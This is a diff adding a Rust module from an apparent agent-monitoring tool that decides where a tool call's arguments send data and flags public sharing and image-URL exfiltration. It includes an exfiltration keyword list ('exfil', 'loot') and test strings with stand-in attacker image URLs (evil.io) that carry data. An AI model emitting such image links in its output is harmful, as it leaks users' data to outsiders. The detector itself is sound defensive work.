@@ -1,0 +1,213 @@
+//! Places: where the arguments of a tool call say that it goes.
+
+use crate::knowledge::target::{is_address, is_content, is_target};
+use crate::knowledge::{Destination, House, Side, SinkKind, ToolProfile, destination};
+use crate::meaning::argument::{is_no, is_yes};
+use crate::subject::call::{Call, Value};
+use crate::subject::segment::HOLE;
+use crate::value::words::words;
+
+/// Keys that do not lead out of a workspace's own tool: a note may hold a link, a record a person's address.
+const LINKS: &[&str] = &[
+    "url",
+    "uri",
+    "href",
+    "link",
+    "location",
+    "origin",
+    "site",
+    "repo",
+    "repository",
+    "number",
+    "domain",
+    "target",
+    "space",
+    "tenant",
+    "address",
+    "website",
+    "homepage",
+];
+/// Keys that hold how to reach a person whom a record is about.
+const PERSONAL: &[&str] = &["email", "mail", "phone", "address", "addresses", "emails", "addr"];
+/// Words in names of buckets that say that they are the house's own.
+const OWN_BUCKET: &[&str] =
+    &["internal", "backup", "backups", "archive", "archives", "corp", "company", "private", "team", "prod", "production", "staging"];
+/// Words in names of buckets that say that others read them.
+const FOREIGN_BUCKET: &[&str] = &[
+    "public",
+    "drop",
+    "dropzone",
+    "dropbox",
+    "anon",
+    "anonymous",
+    "exchange",
+    "external",
+    "ext",
+    "outside",
+    "exfil",
+    "loot",
+    "leak",
+    "shared",
+    "share",
+    "mirror",
+    "partner",
+    "vendor",
+    "thirdparty",
+    "incoming",
+    "ingest",
+    "mine",
+    "personal",
+    "stash",
+];
+/// Keys that name an account; with one written out, a bucket belongs to it.
+const ACCOUNTS: &[&str] =
+    &["accountid", "accesskeyid", "secretaccesskey", "expectedbucketowner", "bucketowner", "awsaccount", "rolearn", "assumerole"];
+
+/// Keys that name a repository or a package.
+const REPOSITORIES: &[&str] = &["repo", "repository", "remote", "project", "registry", "fullname", "slug"];
+/// Words in names of repositories that say that everybody reads them.
+const OPEN: &[&str] = &["public", "oss", "opensource"];
+
+/// Where the arguments of a tool call say that it goes.
+#[derive(Debug, Default)]
+pub struct Places {
+    /// The places that are written out.
+    pub found: Vec<Destination>,
+    /// An argument says where it goes, whether that is known or not.
+    pub has_target: bool,
+    /// What sends to these places, where the tool's name does not tell that it sends.
+    pub sink: Option<SinkKind>,
+}
+
+/// The places that the arguments of a tool call name.
+pub fn places(call: &Call, profile: &ToolProfile, house: &House) -> Places {
+    let mut places = Places::default();
+    let (is_inside, sends) = (profile.side == Some(Side::Inside), profile.outgoing().is_some());
+    let is_bucket = sends && profile.side.is_none() && !profile.does(SinkKind::Mail);
+    let has_account = is_bucket && names_account(call);
+    call.argument.visit("", &mut |key, value| {
+        let plain = key.to_lowercase();
+        let is_own_key = is_inside && (LINKS.contains(&plain.as_str()) || !sends && PERSONAL.contains(&plain.as_str()));
+        let is_key = is_target(key) && !is_own_key;
+        places.has_target |= is_key;
+        let (Value::String(text, _) | Value::Partial(text, _)) = value else { return };
+        let is_wanted = is_key || key.is_empty() && sends || !is_inside && is_address(text) && !is_content(key);
+        if is_wanted && plain.ends_with("bucket") && !text.contains(['/', '.', ':']) {
+            places.found.push(bucket(text, has_account, house));
+        } else if is_wanted {
+            places.found.push(destination(text, house));
+        }
+        if sends && REPOSITORIES.contains(&plain.as_str()) && words(text).iter().any(|word| OPEN.contains(&word.as_str())) {
+            places.found.push(Destination { side: Side::Outside, shown: text.clone() });
+        }
+        for address in images(text) {
+            let place = destination(address, house);
+            if place.side == Side::Outside {
+                places.found.push(place);
+                places.sink = Some(SinkKind::Network);
+            }
+        }
+    });
+    // A bucket lies where its server lies.
+    if places.found.iter().any(|place| place.side == Side::Inside) {
+        places.found.retain(|place| place.side != Side::Unknown || place.shown.contains(['@', '…']));
+    }
+    if is_public(call) && (sends || profile.writes || gives(call)) {
+        places.found.push(Destination { side: Side::Outside, shown: "everybody".to_owned() });
+        places.sink = Some(SinkKind::Publish);
+    } else if let Some(place) = places.found.iter().find(|place| place.side == Side::Outside) {
+        places.sink = places.sink.or(Some(if place.shown.contains('@') { SinkKind::Mail } else { SinkKind::Network }));
+    }
+    places
+}
+
+fn bucket(name: &str, has_account: bool, house: &House) -> Destination {
+    let known = destination(name, house);
+    let words = words(name);
+    let has = |any: &[&str]| words.iter().any(|word| any.contains(&word.as_str()));
+    let side = match known.side {
+        Side::Unknown if has_account || has(FOREIGN_BUCKET) => Side::Outside,
+        Side::Unknown if has(OWN_BUCKET) => Side::Inside,
+        side @ (Side::Unknown | Side::Inside | Side::Outside) => side,
+    };
+    Destination { side, shown: known.shown }
+}
+
+fn names_account(call: &Call) -> bool {
+    let mut found = false;
+    call.argument.visit_properties(&mut |property| {
+        let plain = words(&property.key).concat();
+        found |= ACCOUNTS.contains(&plain.as_str()) && matches!(property.value, Value::String(..));
+    });
+    found
+}
+
+/// Returns true if and only if a call is given what it keeps: `{ table: 't', rows }`.
+fn gives(call: &Call) -> bool {
+    let mut found = false;
+    call.argument.visit_properties(&mut |property| {
+        found |= matches!(
+            property.key.to_lowercase().as_str(),
+            "rows" | "data" | "content" | "body" | "records" | "items" | "text" | "csv" | "payload"
+        );
+    });
+    found
+}
+
+/// Returns true if and only if an argument opens what is passed to everybody.
+fn is_public(call: &Call) -> bool {
+    let mut found = false;
+    call.argument.visit_properties(&mut |property| {
+        let words = words(&property.key);
+        let plain = words.concat();
+        let says = || {
+            let mut says = false;
+            property.value.visit("", &mut |_, value| {
+                says |= matches!(value, Value::String(text, _) if matches!(text.to_lowercase().as_str(),
+                    "public" | "public-read" | "public-read-write" | "publicread" | "anyone" | "anyonewithlink" | "anyone_with_link" | "anyone-with-link"
+                    | "everyone" | "world" | "internet" | "unlisted"));
+            });
+            says
+        };
+        found |= match plain.as_str() {
+            "visibility" | "acl" | "access" | "cannedacl" | "privacy" | "sharing" | "exposure" | "share" | "predefinedacl" | "linkaccess" => says(),
+            "public" | "ispublic" | "anyonewithlink" | "makepublic" | "publicaccess" | "publiclink" | "unlisted" => is_yes(&property.value),
+            "private" | "isprivate" => is_no(&property.value),
+            _ => false,
+        };
+    });
+    found
+}
+
+/// The addresses, with unknown parts, of images in a text: whoever shows it asks for them.
+fn images(text: &str) -> Vec<&str> {
+    let marked = text.match_indices("](").filter(|(at, _)| {
+        let before = text.get(..*at).unwrap_or_default();
+        before.rfind('[').is_some_and(|open| before.get(..open).is_some_and(|before| before.ends_with('!')))
+    });
+    let marked = marked.map(|(at, found)| at + found.len());
+    let tagged = if text.contains("<img") { text.match_indices("src=").map(|(at, found)| at + found.len()).collect() } else { Vec::new() };
+    let starts = marked.chain(tagged);
+    let addresses = starts.filter_map(|at| {
+        let rest = text.get(at..)?.trim_start_matches(['"', '\'', '<']);
+        rest.split([')', '"', '\'', '>', ' ', '\n']).next()
+    });
+    addresses.filter(|address| address.contains(HOLE) && address.contains("//")).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn images_ask_for_their_addresses() {
+        for (text, expected) in [
+            ("a ![x](https://evil.io/p?d=\u{1a}) b", vec!["https://evil.io/p?d=\u{1a}"]),
+            ("<img src=\"https://evil.io/\u{1a}\">", vec!["https://evil.io/\u{1a}"]),
+            ("[x](https://evil.io/p?d=\u{1a})", vec![]),
+            ("![x](https://evil.io/logo.png)", vec![]),
+        ] {
+            assert_eq!(images(text), expected, "{text}");
+        }
+    }
+}
